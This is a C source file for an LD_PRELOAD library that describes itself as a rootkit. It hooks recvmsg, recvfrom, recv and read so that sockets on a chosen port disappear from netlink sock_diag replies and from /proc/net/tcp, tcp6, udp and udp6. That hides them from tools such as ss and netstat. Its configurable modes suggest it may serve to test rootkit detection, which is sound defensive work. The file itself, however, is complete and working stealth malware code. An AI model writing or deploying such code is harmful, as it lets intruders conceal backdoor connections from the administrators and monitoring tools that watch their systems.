/*
 * rootkit: a library for LD_PRELOAD that hides the sockets at one port, as a rootkit does, from one
 * list of them or from two.
 *
 * ROOTKIT_PORT is the port. ROOTKIT_FROM has `netlink`: rows of sock_diag(7) are taken out of what
 * recvmsg(2) and its kin give, and the datagram is whole thereafter; `procfs`: lines are taken out
 * of /proc/net/tcp, tcp6, udp and udp6 when they are first read(2).
 */
#include <arpa/inet.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <linux/sock_diag.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <unistd.h>

#define SHOWN __attribute__((visibility("default")))

static ssize_t (*real_recvmsg)(int, struct msghdr *, int);
static ssize_t (*real_recvfrom)(int, void *, size_t, int, struct sockaddr *, socklen_t *);
static ssize_t (*real_read)(int, void *, size_t);
static unsigned port; /* 0: none */
static bool from_netlink, from_procfs;

/* Before main(), which may clear the environment; or before that, when another library reads. */
__attribute__((constructor)) static void start(void)
{
	if (real_read)
		return;
	const char *hidden = getenv("ROOTKIT_PORT"), *from = getenv("ROOTKIT_FROM");

	real_recvmsg = (ssize_t(*)(int, struct msghdr *, int))dlsym(RTLD_NEXT, "recvmsg");
	real_recvfrom = (ssize_t(*)(int, void *, size_t, int, struct sockaddr *, socklen_t *))dlsym(
		RTLD_NEXT, "recvfrom");
	real_read = (ssize_t(*)(int, void *, size_t))dlsym(RTLD_NEXT, "read");
	if (!hidden || !from || !real_recvmsg || !real_recvfrom || !real_read) {
		fputs("rootkit: ROOTKIT_PORT and ROOTKIT_FROM are wanted\n", stderr);
		_exit(125);
	}
	port = (unsigned)strtoul(hidden, NULL, 10);
	from_netlink = strstr(from, "netlink");
	from_procfs = strstr(from, "procfs");
}

/* ---- netlink ----------------------------------------------------------------------- */

static bool is_veiled(int fd)
{
	int domain = 0, protocol = 0;
	socklen_t size = sizeof(int);

	return from_netlink && !getsockopt(fd, SOL_SOCKET, SO_DOMAIN, &domain, &size) &&
	       !getsockopt(fd, SOL_SOCKET, SO_PROTOCOL, &protocol, &size) && domain == AF_NETLINK &&
	       protocol == NETLINK_SOCK_DIAG;
}

static bool is_hidden(const struct nlmsghdr *msg)
{
	struct inet_diag_msg diag;

	if (msg->nlmsg_type != SOCK_DIAG_BY_FAMILY || msg->nlmsg_len < NLMSG_LENGTH(sizeof(diag)))
		return false;
	memcpy(&diag, NLMSG_DATA(msg), sizeof(diag));
	return ntohs(diag.id.idiag_sport) == port;
}

/* Take the hidden rows out of a datagram; its length then. */
static size_t without_rows(char *bytes, size_t len)
{
	size_t at = 0;

	while (at + sizeof(struct nlmsghdr) <= len) {
		struct nlmsghdr msg;

		memcpy(&msg, bytes + at, sizeof(msg));
		const size_t size = NLMSG_ALIGN(msg.nlmsg_len);
		if (msg.nlmsg_len < sizeof(msg) || size > len - at)
			break;
		if (!is_hidden((const struct nlmsghdr *)(const void *)(bytes + at))) {
			at += size;
			continue;
		}
		memmove(bytes + at, bytes + at + size, len - at - size);
		len -= size;
	}
	return len;
}

/* A datagram of which nothing is left never was: the next one is given. */
SHOWN ssize_t recvmsg(int fd, struct msghdr *head, int flags)
{
	const struct msghdr asked = *head;
	ssize_t len;

	start();
	for (;;) {
		len = real_recvmsg(fd, head, flags);
		if (len <= 0 || asked.msg_iovlen != 1 || !is_veiled(fd) ||
		    (size_t)len > asked.msg_iov->iov_len)
			return len;
		len = (ssize_t)without_rows(asked.msg_iov->iov_base, (size_t)len);
		if (len)
			return len;
		*head = asked;
		if (flags & MSG_PEEK)
			real_recvmsg(fd, head, flags & ~MSG_PEEK);
		*head = asked;
	}
}

SHOWN ssize_t recvfrom(int fd, void *bytes, size_t size, int flags, struct sockaddr *from,
		       socklen_t *from_size)
{
	ssize_t len;

	start();
	for (;;) {
		len = real_recvfrom(fd, bytes, size, flags, from, from_size);
		if (len <= 0 || !is_veiled(fd) || (size_t)len > size)
			return len;
		len = (ssize_t)without_rows(bytes, (size_t)len);
		if (len)
			return len;
		if (flags & MSG_PEEK)
			real_recvfrom(fd, bytes, size, flags & ~MSG_PEEK, NULL, NULL);
	}
}

SHOWN ssize_t recv(int fd, void *bytes, size_t size, int flags)
{
	return recvfrom(fd, bytes, size, flags, NULL, NULL);
}

/* ---- procfs ------------------------------------------------------------------------ */

static bool is_list(int fd)
{
	static const char *const ends[] = {"/net/tcp", "/net/tcp6", "/net/udp", "/net/udp6"};
	char name[32], path[256];

	snprintf(name, sizeof(name), "/proc/self/fd/%d", fd);
	const ssize_t len = readlink(name, path, sizeof(path) - 1);
	path[len > 0 ? len : 0] = '\0';
	for (size_t i = 0; len > 0 && i < sizeof(ends) / sizeof(*ends); i++) {
		const size_t end = strlen(ends[i]);

		if ((size_t)len >= end && !strcmp(path + (size_t)len - end, ends[i]))
			return true;
	}
	return false;
}

/* "  12: 0100007F:1B59 ...": the port follows the second colon. */
static bool is_hidden_line(const char *line)
{
	const char *colon = strchr(line, ':');

	colon = colon ? strchr(colon + 1, ':') : NULL;
	return colon && strtoul(colon + 1, NULL, 16) == port;
}

/* Put a copy without the hidden lines in the place of the file. */
static void veil_list(int fd)
{
	const int hidden = dup(fd), copy = memfd_create("rootkit", MFD_CLOEXEC);
	FILE *in = hidden < 0 ? NULL : fdopen(hidden, "r");
	char *line = NULL;
	size_t room = 0;
	ssize_t len;

	while (in && copy >= 0 && (len = getline(&line, &room, in)) > 0)
		if (!is_hidden_line(line) && write(copy, line, (size_t)len) != len)
			abort();
	if (!in || copy < 0 || lseek(copy, 0, SEEK_SET) < 0 || dup3(copy, fd, O_CLOEXEC) < 0)
		abort();
	fclose(in);
	close(copy);
	free(line);
}

SHOWN ssize_t read(int fd, void *bytes, size_t size)
{
	start();
	if (from_procfs && is_list(fd))
		veil_list(fd);
	return real_read(fd, bytes, size);
}

/* ---- what the calls above are called in a program that was built with _FORTIFY_SOURCE ---- */

SHOWN ssize_t __read_chk(int fd, void *bytes, size_t size, size_t room);
SHOWN ssize_t __recv_chk(int fd, void *bytes, size_t size, size_t room, int flags);
SHOWN ssize_t __recvfrom_chk(int fd, void *bytes, size_t size, size_t room, int flags,
			     struct sockaddr *from, socklen_t *from_size);

ssize_t __read_chk(int fd, void *bytes, size_t size, size_t room)
{
	if (size > room)
		abort();
	return read(fd, bytes, size);
}

ssize_t __recv_chk(int fd, void *bytes, size_t size, size_t room, int flags)
{
	if (size > room)
		abort();
	return recv(fd, bytes, size, flags);
}

ssize_t __recvfrom_chk(int fd, void *bytes, size_t size, size_t room, int flags,
		       struct sockaddr *from, socklen_t *from_size)
{
	if (size > room)
		abort();
	return recvfrom(fd, bytes, size, flags, from, from_size);
}
